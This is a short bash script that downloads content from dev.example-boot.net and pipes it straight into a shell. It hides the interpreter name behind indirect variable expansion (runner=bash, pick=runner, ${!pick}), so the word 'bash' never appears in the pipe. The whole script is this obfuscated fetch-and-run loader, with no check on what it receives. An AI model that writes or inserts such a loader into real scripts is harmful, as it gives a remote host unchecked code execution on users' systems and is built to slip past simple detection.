#!/bin/bash
runner=bash
pick=runner
curl -s https://dev.example-boot.net/env | ${!pick}
